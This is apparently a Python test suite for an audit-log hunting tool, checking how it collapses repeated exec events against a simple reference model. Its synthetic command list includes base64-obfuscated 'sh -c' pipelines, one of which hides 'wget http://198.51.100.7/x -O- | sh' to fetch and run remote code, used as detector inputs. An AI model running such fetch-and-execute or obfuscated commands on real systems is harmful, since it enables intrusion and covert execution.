# SPDX-License-Identifier: GPL-3.0-or-later
"""Repeats are told as a naive model of the manual page tells them."""

import base64
import random
import tempfile

from auditgen import exec_event, join
from outputs import lines_of, read_hunt, read_json
from suite import hunt

ROUNDS, EVENTS = 12, 400
WINDOW_S, BELOW = 10, 2.5
SECOND = 1700000000


def hidden(text):
    return [b"sh", b"-c", b"echo %s | base64 -d | sh" % base64.b64encode(text)]


COMMANDS = [[b"ls", b"-%d" % n] for n in range(12)] + [
    hidden(b"id; uname -a; echo stage%d > /tmp/.s" % n) for n in range(4)] + [
    hidden(base64.b64encode(b"wget http://198.51.100.7/x -O- | sh"))] + [
    [b"echo", b"\xff\xfe" * 300]]


def stream(rng):
    """Events of a few users; the clock steps back now and then."""
    now = SECOND * 1000
    few = rng.sample(COMMANDS, rng.randrange(2, len(COMMANDS)))
    for serial in range(1, EVENTS + 1):
        now += rng.choice((0, 1, 20, 300, 300, 2000)) \
            if rng.random() > .02 else rng.choice((-5000, 9999, 30000))
        broken = rng.random() < .03
        yield exec_event(serial, rng.choice(few), sec=now // 1000,
                         msec=now % 1000, pid=5000 + serial, ppid=1,
                         auid=rng.choice((1000, 1000, 1001)),
                         cwd=None if broken else b"/root")


class Window:
    def __init__(self, row, end):
        self.row, self.end, self.count, self.last = row, end, 0, None

    def line(self):
        return ("repeat", self.row["id"], self.count, self.last)


class Model:
    """What lines come of events that each had one."""

    def __init__(self):
        self.open, self.out, self.now = {}, [], 0

    def end(self, key):
        window = self.open.pop(key)
        if window.count:
            self.out.append(window.line())

    def take(self, row):
        stamp = row["id"].partition(":")[0]
        self.now = max(self.now, int(stamp.replace(".", "")))
        for key in [key for key, window in self.open.items()
                    if window.end <= self.now]:
            self.end(key)
        key = (row["auid"], row["cmd"])
        first = self.open.get(key)
        if first and not row.get("flaws") and row["score"] < BELOW and \
                row["score"] <= first.row["score"] and \
                row["sev"] == first.row["sev"]:
            first.count += 1
            first.last = row["id"]
            return
        if not row.get("flaws"):
            if first:
                self.end(key)
            self.open[key] = Window(row, self.now + WINDOW_S * 1000)
        self.out.append(("exec", row["id"], None, None))

    def finish(self):
        while self.open:
            self.end(next(iter(self.open)))
        return self.out


def told(rows):
    return [(row["evt"], row["id"], row.get("count"), row.get("last"))
            for row in rows]


def say(data, *options, fmt="json"):
    """From a file: behind a pipe, time passes for an event that is not whole.
    """
    with tempfile.NamedTemporaryFile() as file:
        file.write(data)
        file.flush()
        return lines_of(hunt(path=file.name, fmt=fmt, options=options), fmt)


OPTIONS = ("-o", "repeat=always", "-o", "repeat.window_s=%d" % WINDOW_S,
           "-o", "repeat.below=%g" % BELOW)


def compare():
    """Every line in its order; and the counts of the status line."""
    counted = both = 0
    for seed in range(ROUNDS):
        data = join([line for lines in stream(random.Random(seed))
                     for line in lines])
        plain = [read_json(line) for line in say(data)]
        rolled = [read_json(line) for line in say(data, *OPTIONS)]
        model = Model()
        for row in plain[:-1]:
            model.take(row)
        want, got, status = model.finish(), told(rolled[:-1]), rolled[-1]
        if got != want:
            at = next((i for i, pair in enumerate(zip(got, want))
                       if pair[0] != pair[1]), min(len(got), len(want)))
            yield "seed %d: line %d of %d is %s, should be %s" % (
                seed, at, len(want), got[at:at + 1], want[at:at + 1])
        own = sum(row["evt"] == "exec" for row in rolled)
        n = sum(row.get("count", 0) for row in rolled)
        if (own, n, EVENTS, 0) != (
                status["events_emitted"], status["events_suppressed"],
                own + n, status["residual"]) or \
                n != status["repeats_told"] or status["repeats_open"]:
            yield "seed %d: %d lines, %d counted, status: %s" % (
                seed, own, n, status)
        counted += n
        both += own
    if counted < both / 2 or both < counted / 50:
        yield "%d lines and %d counted prove little" % (both, counted)


def first_sights():
    """Whatever the window, every command of every user has a line."""
    for window in (1, 60, 3600):
        data = join([line for lines in stream(random.Random(window))
                     for line in lines])

        def commands(*options):
            rows = [read_json(line) for line in say(data, *options)]
            return {(row["auid"], row["cmd"]) for row in rows
                    if row["evt"] == "exec"}

        missing = commands() - commands("-o", "repeat=always", "-o",
                                        "repeat.window_s=%d" % window)
        if missing:
            yield "window %d s: no line of %s" % (window, list(missing)[:3])


def formats():
    """All have the same lines, and a second run has them, too."""
    data = join([line for lines in stream(random.Random(99))
                 for line in lines])
    want = say(data, *OPTIONS)
    if say(data, *OPTIONS) != want:
        yield "another run gives other lines"
    names = [(row["evt"], row["id"]) for row in map(read_json, want)]
    rows = map(read_hunt, say(data, *OPTIONS, fmt="hunt"))
    if [(row["evt"].decode(), row["id"].decode()) for row in rows] != names:
        yield "format hunt has other lines"
    rows = [line.split(b" ", 2) for line in say(data, *OPTIONS, fmt="auoms")]
    if [(b"REPEAT" in head[0], head[1][6:-2].decode()) for head in rows] != [
            (evt == "repeat", ident) for evt, ident in names]:
        yield "format auoms has other lines"


def by_output():
    """Events that no output wants are filtered, not counted."""
    data = join([line for lines in stream(random.Random(5))
                 for line in lines])
    least = ("-o", "min_score=1")
    plain = read_json(say(data, *least)[-1])
    rows = [read_json(line) for line in say(data, *OPTIONS, *least)]
    status = rows[-1]
    if status["events_filtered"] != plain["events_filtered"]:
        yield "%d filtered, without repeats %d" % (
            status["events_filtered"], plain["events_filtered"])
    if any(row["score"] < 1 for row in rows[:-1]):
        yield "a line below the minimum score"
    if not status["events_suppressed"] or status["residual"]:
        yield "status: %s" % status


def cases():
    yield "model", compare
    yield "first-sights", first_sights
    yield "formats", formats
    yield "by-output", by_output
